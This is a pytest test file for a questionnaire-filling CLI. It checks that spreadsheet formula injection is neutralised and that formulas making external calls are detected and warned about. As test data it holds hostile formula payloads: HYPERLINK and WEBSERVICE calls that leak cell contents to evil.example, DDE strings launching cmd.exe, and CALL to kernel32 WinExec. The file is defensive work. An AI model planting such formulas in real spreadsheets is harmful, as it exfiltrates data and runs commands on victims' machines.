"""Customer questionnaires are hostile: nothing in them runs, no limit is passed, every failure is a located error."""
from __future__ import annotations

import codecs
import csv
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner

from trustdocs.cli import main
from trustdocs.questionnaire.formulas import csv_field, external_calls, set_text
from trustdocs.questionnaire.limits import MAX_INFLATED_BYTES

MINIMAL = Path(__file__).parent / "data" / "minimal.yaml"
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=WEBSERVICE(\"http://evil.example/\"&B2)",
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,2)",
    "#N/A",
]


def run(*args: str | Path) -> Any:
    return CliRunner().invoke(main, ["answer", *map(str, args)], prog_name="trustdocs")


def no_traceback(result: Any) -> None:
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output


def formula_parts(path: Path) -> list[str]:
    """Every <f> element in the package: the formulas Excel would compute on opening."""
    with zipfile.ZipFile(path) as archive:
        return [name for name in archive.namelist() if re.search(rb"<f[ >]", archive.read(name))]


def injection_csv(path: Path) -> Path:
    rows = [["Ref", "Question", "Notes"], ["Q1", "Is customer data encrypted at rest?", INJECTIONS[0]]]
    rows += [[f"Q{n}", value, value] for n, value in enumerate(INJECTIONS[1:], start=2)]
    with path.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows(rows)
    return path


# 1. Formulas ---------------------------------------------------------------------------------------------------

def test_csv_cells_become_text_never_formulas(tmp_path: Path) -> None:
    out = tmp_path / "filled.xlsx"
    result = run(MINIMAL, injection_csv(tmp_path / "theirs.csv"), "-o", out)
    assert result.exit_code == 0, result.output
    assert formula_parts(out) == []
    sheet = openpyxl.load_workbook(out).active
    assert [c.value for c in sheet["C"]][1:] == INJECTIONS
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert {c.data_type for c in cells} <= {"s", "n"}
    assert all(c.quotePrefix for c in sheet["C"][1:] if c.value != "#N/A")
    assert sheet["D2"].value == "Yes"


def test_a_formula_in_their_workbook_is_kept_not_matched_and_external_calls_are_warned(tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Security"
    sheet.append(["Question", "Response"])
    sheet.append(["Is customer data encrypted at rest?", None])
    sheet.append(['="Do you support SAML SSO?"', None])
    sheet.append(["Do you have a formal incident response plan?", '=WEBSERVICE("http://evil.example/"&A2)'])
    sheet.append(["Is MFA enforced?", "=cmd|' /C calc'!A0"])
    sheet["D1"] = '=HYPERLINK("http://evil.example","HYPERLINK(")'
    sheet["E1"] = '=CONCAT("WEBSERVICE(", "|")'  # only mentions them, inside strings
    workbook.save(tmp_path / "theirs.xlsx")
    out = tmp_path / "filled.xlsx"
    result = run(MINIMAL, tmp_path / "theirs.xlsx", "-o", out)
    assert result.exit_code == 0, result.output
    theirs = tmp_path / "theirs.xlsx"
    assert result.stderr == (
        f"{theirs}: Security!D1: warning: the formula calls HYPERLINK, which can reach outside the workbook "
        "when it is opened; kept as it was, not answered\n"
        f"{theirs}: Security!B4: warning: the formula calls WEBSERVICE, which can reach outside the workbook "
        "when it is opened; kept as it was, not answered\n"
        f"{theirs}: Security!B5: warning: the formula calls DDE, which can reach outside the workbook "
        "when it is opened; kept as it was, not answered\n")
    assert result.stdout.startswith("3 question(s) on 1 sheet(s) (Security):")
    filled = openpyxl.load_workbook(out)["Security"]
    assert filled["A3"].value == '="Do you support SAML SSO?"' and filled["A3"].data_type == "f"
    assert filled["B4"].value == '=WEBSERVICE("http://evil.example/"&A2)'
    assert filled["F3"].value is None  # the formula row got no answer
    assert filled["F2"].value == "Yes"


@pytest.mark.parametrize(("formula", "calls"), [
    ('=HYPERLINK("http://x")', ("HYPERLINK",)),
    ("=_xlfn.WEBSERVICE(A1)", ("WEBSERVICE",)),
    ("=FILTERXML(WEBSERVICE(A1),\"//a\")", ("FILTERXML", "WEBSERVICE")),
    ("=IMPORTXML(A1, \"//a\")", ("IMPORTXML",)),
    ("=importdata(A1)", ("IMPORTDATA",)),
    ("=RTD(\"prog.id\",,\"x\")", ("RTD",)),
    ('=CALL("kernel32","WinExec","JCJ","calc",0)', ("CALL",)),
    ('=REGISTER.ID("kernel32","WinExec")', ("REGISTER.ID",)),
    ("=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A0", ("DDE",)),
    ("='C:\\[budget.xlsx]Sheet1'!A1+[1]Sheet1!B2", ("another workbook",)),
    ('="HYPERLINK(" & "WEBSERVICE(x)"', ()),
    ("=SUM(A1:A3)", ()),
    ("=MYHYPERLINK(A1)", ()),
])
def test_external_calls(formula: str, calls: tuple[str, ...]) -> None:
    assert external_calls(formula) == calls


def test_answers_that_look_like_formulas_are_written_as_text() -> None:
    cell = openpyxl.Workbook().active["A1"]
    set_text(cell, "=1+1")
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True)
    set_text(cell, "Yes")
    assert (cell.data_type, cell.quotePrefix) == ("s", False)
    assert csv_field("=1+1") == "'=1+1"
    assert [csv_field(v) for v in ("+1", "-1", "@x", "\tx", "\rx", "a=b", "", None, 3, 0.5)] == [
        "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=b", "", "", "3", "0.5"]
